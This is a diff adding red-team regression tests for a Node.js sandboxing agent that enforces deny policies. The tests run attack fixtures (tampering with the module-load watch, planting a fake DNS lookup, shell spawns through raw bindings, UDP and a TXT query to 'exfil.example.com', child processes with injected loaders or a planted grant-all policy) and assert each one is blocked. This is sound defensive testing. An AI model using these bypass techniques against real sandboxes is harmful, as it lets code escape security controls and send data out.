@@ -4,6 +4,7 @@
 // process: a TCP server on 127.0.0.2 that counts what really arrived, files that must not exist, and
 // the event files. Each finding's test failed against the bundle before its fix (see the commit
 // messages); attacks that held are kept, grouped, as regression tests.
+import { readdirSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   appResults,
@@ -13,7 +14,14 @@ import {
   type RunResult,
   runFixture,
 } from './harness.js';
-import { attackSource, DENY_ALL, FORBIDDEN_HOST, forbiddenServer, type Observer } from './redteam-support.js';
+import {
+  attackSource,
+  DENY_ALL,
+  FORBIDDEN_HOST,
+  forbiddenServer,
+  type Observer,
+  targetDir,
+} from './redteam-support.js';
 
 let server: Observer;
 beforeAll(async () => {
@@ -76,6 +84,30 @@ report(await tryConnect({ host: FORBIDDEN, port: PORT }));`);
     expect(appResults(run)[0], detail).toMatchObject({ error: 'ERR_ACCESS_DENIED' });
     cleanup(run);
   });
+
+  // the module loaded while the watch was out, its lookup replaced, then a made-up `NativeModule dns`
+  // entry pushed to re-arm the watch: the agent took the app's lookup for its own, and that lookup
+  // answered the agent's resolution of `localhost` from a promise reaction
+  it("the agent's own resolution, through a lookup the app planted before the watch saw node:dns", async () => {
+    const { run, accepted } = await attack(`
+const list = process.moduleLoadList;
+const watch = Object.getPrototypeOf(list);
+Object.setPrototypeOf(list, Array.prototype);
+const dns = require('node:dns');
+dns.lookup = (hostname, options, callback) => {
+  if (typeof options === 'function') callback = options;
+  Promise.resolve().then(callback.bind(null, null, [{ address: FORBIDDEN, family: 4 }]));
+};
+Object.setPrototypeOf(list, watch);
+list.push('NativeModule dns');
+const first = await tryConnect({ host: 'localhost', port: 1 });
+await new Promise((resolve) => setTimeout(resolve, 100));
+report({ first, dial: await tryConnect({ host: FORBIDDEN, port: PORT }) });`);
+    const detail = detailOf(run);
+    expect(accepted, detail).toBe(0);
+    expect(appResults(run)[0], detail).toMatchObject({ dial: { error: 'ERR_ACCESS_DENIED' } });
+    cleanup(run);
+  });
 });
 
 // `node --build-snapshot <entry>` runs the entry without the preload modules NODE_OPTIONS names
@@ -125,6 +157,104 @@ if (v8.startupSnapshot && v8.startupSnapshot.isBuildingSnapshot()) {
       started.map((event) => [event.action, event.target]),
       detail,
     ).toEqual([['observe', expect.stringContaining('node (without the agent)')]]);
+    cleanup(run);
+  });
+});
+
+// Attacks that held, kept as regression tests.
+describe('red team 5: held', () => {
+  // Node builtins the agent patches when they load; the watch taken out or fooled, the bindings judge
+  it('the load watch taken out, fooled or made to throw: spawns, queries and datagrams are still denied', async () => {
+    const target = targetDir();
+    const { run, accepted } = await attack(
+      `
+const list = process.moduleLoadList;
+const results = {};
+// a setter on the next index, so Node's push never reaches the watch; then the watch removed
+Object.defineProperty(list, list.length, { set() {}, get() { return 'x'; }, configurable: true });
+Object.setPrototypeOf(list, Array.prototype);
+// entries Node will never push, and entries that make a patch load the module re-entrantly
+list.push('NativeModule child_process', 'NativeModule dgram', 'NativeModule vm');
+const childProcess = process.getBuiltinModule ? process.getBuiltinModule('node:child_process') : require('node:child_process');
+results.spawn = attempt(() => childProcess.execFileSync('/bin/sh', ['-c', 'echo ran > ' + TARGET + '/spawned']));
+results.rawSpawn = attempt(() => process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'echo ran > ' + TARGET + '/raw'], envPairs: [], stdio: [] }).status);
+const dgram = require('node:dgram');
+results.udp = await new Promise((resolve) => {
+  const socket = dgram.createSocket('udp4');
+  socket.send('x', PORT, FORBIDDEN, (error) => { socket.close(); resolve(error ? error.code || String(error) : 'sent'); });
+});
+const { Resolver } = await import('node:dns/promises');
+results.txt = await new Resolver().resolveTxt('exfil.example.com').then(() => 'resolved', (error) => error.code);
+results.dial = await tryConnect({ host: FORBIDDEN, port: PORT });
+report(results);`,
+      { env: { RT_TARGET: target.dir } },
+    );
+    const detail = detailOf(run);
+    expect(accepted, detail).toBe(0);
+    const results = appResults(run)[0] as Record<string, unknown>;
+    expect(results.spawn, detail).toMatchObject({ error: 'ERR_ACCESS_DENIED' });
+    expect(results.rawSpawn, detail).not.toEqual({ ok: 0 });
+    expect(results.udp, detail).not.toBe('sent');
+    expect(results.txt, detail).not.toBe('resolved');
+    expect(results.dial, detail).toMatchObject({ error: 'ERR_ACCESS_DENIED' });
+    expect(readdirSync(target.dir), detail).toEqual([]);
+    cleanup(run);
+    target.remove();
+  });
+
+  // a Node child: preloads of the app's own in NODE_OPTIONS, an --env-file naming its own hand-off
+  it('a Node child with a loader, an --import or an --env-file of the app: still under network deny', async () => {
+    const { run, accepted } = await attack(
+      `
+const dial = "import net from 'node:net'; await new Promise((resolve) => { const s = net.connect(" + PORT + ", '" + FORBIDDEN + "'); s.on('connect', () => { console.log('CONNECTED'); s.destroy(); resolve(); }); s.on('error', (e) => { console.log(e.code); resolve(); }); });";
+const { spawnSync } = require('node:child_process');
+const envFile = require('node:path').join(require('node:os').tmpdir(), 'rt5-env-' + process.pid);
+fs.writeFileSync(envFile, 'ES_INHERITED_POLICY=' + JSON.stringify({ source: 'file', appDirs: [], policy: { name: 'planted', network: 'grant', filesystem: 'grant', process: 'grant' } }) + '\\nNODE_OPTIONS=\\n');
+const results = {};
+for (const flag of ['--experimental-loader', '--import']) {
+  const child = spawnSync(process.execPath, ['-e', 'setTimeout(() => {}, 300)'], { env: { ...process.env, NODE_OPTIONS: flag + ' "data:text/javascript,' + encodeURIComponent(dial) + '"' }, encoding: 'utf8' });
+  results[flag] = child.stdout.split('\\n').filter((line) => line && !line.startsWith('{'));
+}
+const child = spawnSync(process.execPath, ['--env-file=' + envFile, '--input-type=module', '-e', dial], { encoding: 'utf8' });
+results.envFile = child.stdout.split('\\n').filter((line) => line && !line.startsWith('{'));
+fs.rmSync(envFile, { force: true });
+report(results);`,
+      { policy: { ...DENY_ALL, filesystem: 'observe', process: 'deny', allowedCommands: ['node'] } },
+    );
+    const detail = detailOf(run);
+    expect(accepted, detail).toBe(0);
+    expect(appResults(run)[0], detail).toEqual({
+      '--experimental-loader': ['ERR_ACCESS_DENIED'],
+      '--import': ['ERR_ACCESS_DENIED'],
+      envFile: ['ERR_ACCESS_DENIED'],
+    });
+    cleanup(run);
+  });
+
+  // resource limits that answer the agent's read and the Worker's differently, and stacks too small
+  it('a worker with resource limits that change between reads, or tiny ones, never dials out', async () => {
+    const { run, accepted } = await attack(`
+const { Worker } = require('node:worker_threads');
+const DIAL = "const net = require('node:net'); const { parentPort } = require('node:worker_threads'); const s = net.connect(" + PORT + ", '" + FORBIDDEN + "'); s.on('connect', () => { s.destroy(); parentPort.postMessage('connected'); }); s.on('error', (e) => parentPort.postMessage(e.code));";
+const inWorker = (resourceLimits) => new Promise((resolve) => {
+  let worker;
+  try { worker = new Worker(DIAL, { eval: true, resourceLimits }); } catch (error) { resolve('thrown ' + error.code); return; }
+  let result = 'no message';
+  worker.on('message', (message) => { result = message; });
+  worker.on('error', (error) => { result = error.code || String(error); });
+  worker.on('exit', () => resolve(result));
+});
+let reads = 0;
+const flipping = new Proxy({}, { get: (_, key) => (key === 'stackSizeMb' ? (reads++ === 0 ? 4 : 0.05) : undefined) });
+let getterReads = 0;
+const getter = { get stackSizeMb() { return getterReads++ === 0 ? 4 : 0.05; } };
+const results = [];
+for (const limits of [flipping, getter, { stackSizeMb: 0.01 }, { stackSizeMb: 0.1, maxYoungGenerationSizeMb: 1 }]) results.push(await inWorker(limits));
+report(results);`);
+    const detail = detailOf(run);
+    expect(accepted, detail).toBe(0);
+    for (const result of appResults<{ toString(): string }[]>(run)[0] ?? [])
+      expect(result, detail).not.toBe('connected');
     cleanup(run);
   });
 });
